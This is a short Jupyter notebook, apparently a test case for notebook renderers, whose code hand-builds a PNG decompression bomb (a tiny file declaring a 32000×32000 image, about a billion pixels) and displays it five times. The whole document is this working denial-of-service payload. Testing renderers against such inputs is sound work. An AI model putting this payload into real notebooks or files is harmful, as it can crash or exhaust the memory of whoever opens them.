# ---
# jupyter:
#   attack:
#     tries: Displays a small file that is a picture of a billion pixels.
#     attacked: []
#     page: true
# ---

# %%
import struct
import zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


squeeze = zlib.compressobj(9)
rows = b"".join(squeeze.compress(bytes(1 + 32000 // 8)) for _ in range(32000)) + squeeze.flush()
png = (
    b"\x89PNG\r\n\x1a\n"
    + chunk(b"IHDR", struct.pack(">IIBBBBB", 32000, 32000, 1, 0, 0, 0, 0))
    + chunk(b"IDAT", rows)
    + chunk(b"IEND", b"")
)
for _ in range(5):
    get_ipython().display_pub.publish({"image/png": png})
